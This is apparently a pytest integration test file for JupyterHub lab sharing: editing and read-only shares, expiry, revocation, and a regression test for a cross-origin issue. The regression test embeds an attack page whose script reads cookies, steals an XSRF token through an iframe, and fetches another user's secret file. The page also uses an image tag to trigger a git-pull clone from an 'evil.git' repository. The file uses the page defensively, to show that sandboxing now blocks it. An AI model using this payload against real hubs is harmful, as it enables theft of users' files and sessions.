"""Sharing a running lab through JupyterHub's sharing API, on a real hub: editing and
read-only shares, a user's and a project's, expiry kept by the projects service, revocation,
and the lab's Share page."""

from __future__ import annotations

import pytest
import requests

from harness import lean, sign_in, wait_for

pytestmark = pytest.mark.integration

SETTINGS = {**lean("knowledge"),  # only what sharing needs
            # a revoked share stops working within 2 s; expiry checked every second
            "services": {"auth_cache_age": 2}, "projects": {"expiry_check_every": 1}}


def test_share_a_lab(hub_factory):
    hub = hub_factory(**SETTINGS)
    for user in ("alice", "bob", "carol", "dave", "erin"):
        hub.create_user(user)
    hub.start_server("alice")
    token = {u: hub.api("POST", f"/users/{u}/tokens", json={}).json()["token"]
             for u in ("alice", "bob", "carol", "dave", "erin")}
    lab = f"{hub.url}/user/alice"

    def call(user, method, path, **kw):
        return requests.request(method, f"{lab}{path}", timeout=30,
                                headers={"Authorization": f"token {token[user]}"}, **kw)

    def put(user, name):
        return call(user, "PUT", f"/api/contents/{name}",
                    json={"type": "file", "format": "text", "content": user})

    out = hub.execute("alice", (
        "import echoes_lab\n"
        "echoes_lab.share('bob')\n"
        "echoes_lab.share('carol', read_only=True, expires='4s')\n"
        "for s in echoes_lab.sharing.shares():\n"
        "    print(s['with'], s['read_only'], bool(s['expires_at']))\n"))
    assert out["status"] == "ok", out
    assert out["stdout"].split("\n")[:2] == ["bob False False", "carol True True"]

    # bob edits: his requests reach alice's lab, his file is there, he may start a kernel
    assert put("bob", "from-bob.txt").status_code == 201
    assert (hub.state / "homes" / "alice" / "from-bob.txt").read_text() == "bob"
    kernel = call("bob", "POST", "/api/kernels", json={"name": "echoes"})
    assert kernel.status_code == 201
    assert call("bob", "DELETE", f"/api/kernels/{kernel.json()['id']}").status_code == 204
    # carol reads, and nothing else
    assert call("carol", "GET", "/api/contents/from-bob.txt").json()["content"] == "bob"
    refused = put("carol", "from-carol.txt")
    assert refused.status_code == 403 and "read-only" in refused.json()["message"]
    assert call("carol", "POST", "/api/kernels", json={"name": "echoes"}).status_code == 403
    assert not (hub.state / "homes" / "alice" / "from-carol.txt").exists()
    # jupyterlab-git's handlers skip jupyter-server's @authorized: refused all the same
    assert call("carol", "POST", "/git/init", json={"current_path": ""}).status_code == 403
    assert not (hub.state / "homes" / "alice" / ".git").exists()
    # dave has no share
    assert call("dave", "GET", "/api/contents").status_code in (403, 404)
    # every lab has notebook history: jupyterlab-git and nbdime's rich diff answer
    assert call("alice", "GET", "/git/settings").status_code == 200
    assert call("alice", "GET", "/nbdime/difftool").status_code == 200
    # the Share page is alice's alone
    page = call("alice", "GET", "/echoes/share")
    assert page.status_code == 200 and "carol" in page.text and "read-only" in page.text
    assert call("bob", "GET", "/echoes/share").status_code == 403

    # carol's share expires: the projects service revokes it through the hub's API
    wait_for(lambda: call("carol", "GET", "/api/contents").status_code == 403, 30,
             "carol's expired share to stop working")
    left = hub.api("GET", "/shares/alice/").json()["items"]
    assert [s["user"]["name"] for s in left] == ["bob"]

    # a project's share reaches its members; revoking it ends their access
    hub.cli("project", "create", "p1", "--members", "dave")
    out = hub.execute("alice", "import echoes_lab\nechoes_lab.share(project='p1')\n")
    assert out["status"] == "ok", out
    # (dave's earlier refusal is trusted by alice's server for auth_cache_age seconds)
    wait_for(lambda: put("dave", "from-dave.txt").status_code == 201, 15, "dave's access")
    assert call("erin", "GET", "/api/contents").status_code in (403, 404)
    out = hub.execute("alice", "import echoes_lab\nechoes_lab.sharing.revoke(project='p1')\n"
                               "echoes_lab.sharing.revoke('bob')\n")
    assert out["status"] == "ok", out
    for user in ("dave", "bob"):
        wait_for(lambda u=user: call(u, "GET", "/api/contents").status_code == 403, 15,
                 f"{user}'s revoked share to stop working")
    assert hub.api("GET", "/shares/alice/").json()["items"] == []


EVIL_PAGE = """<!DOCTYPE html><html><head><title>loading</title></head><body>
<img src="/user/alice/git-pull/api?repo=https%3A%2F%2Fexample.org%2Fevil.git&targetpath=gp">
<script>
const out = [];
try { out.push("cookies:" + document.cookie.length); } catch (e) { out.push("cookies:blocked"); }
const frame = document.createElement("iframe");  // alice's page: its XSRF token, as she has it
frame.src = "/user/alice/echoes/share";
frame.onload = () => {
  let xsrf = "";
  try { xsrf = frame.contentDocument.querySelector("meta[name=xsrf]").content; }
  catch (e) { out.push("frame:blocked"); }
  fetch("/user/alice/api/contents/secret.txt",
        {credentials: "include", headers: xsrf ? {"X-XSRFToken": xsrf} : {}})
    .then(r => r.json()).then(m => out.push("read:" + m.content))
    .catch(e => out.push("read:blocked"))
    .finally(() => { document.title = out.join(" "); });
};
document.body.appendChild(frame);
</script></body></html>"""


@pytest.mark.browser
def test_a_shared_page_cannot_act_on_another_lab(hub_factory, browser, tmp_path):
    """Issue 26, reproduction 3, in Chromium: carol serves a page through her server-proxy and
    shares her lab with alice; alice opens it. Before, the page ran in the hub's origin: it read
    the hub's cookies and its requests reached alice's server as hers (title on the previous
    main: "cookies:312 frame:blocked read:undefined", the read answered 403 for want of an XSRF
    token only). Now the page is sandboxed (an opaque origin): no cookies, the browser itself
    refuses its request to alice's lab, and its <img> clones nothing."""
    import functools
    import http.server
    import threading

    from harness import free_port

    hub = hub_factory(**SETTINGS)
    for user in ("alice", "carol"):
        hub.create_user(user)
        hub.start_server(user)
    r = requests.put(f"{hub.url}/user/alice/api/contents/secret.txt", timeout=30,
                     headers={"Authorization": f"token {hub.token}"},
                     json={"type": "file", "format": "text", "content": "alice-secret"})
    assert r.status_code == 201, r.text
    assert hub.api("POST", "/shares/carol/", json={"user": "alice"}).status_code == 200
    site = tmp_path  # served by this process
    (site / "evil.html").write_text(EVIL_PAGE)
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", free_port()),
        functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        sign_in(page, hub, "alice", "/user/alice/echoes/share")
        page.wait_for_url("**/user/alice/echoes/share", timeout=60_000)  # signed in to her lab
        page.goto(f"{hub.url}/user/carol/proxy/{server.server_address[1]}/evil.html")
        page.wait_for_url("**/oauth2/authorize**", timeout=60_000)  # carol's lab: asked once
        page.click("form button[type=submit]")
        page.wait_for_function("() => document.title.includes('read:')", timeout=60_000)
        assert page.title() == "cookies:blocked frame:blocked read:blocked"
    finally:
        context.close()
        server.shutdown()
        server.server_close()
    assert not (hub.state / "homes" / "alice" / "gp").exists()
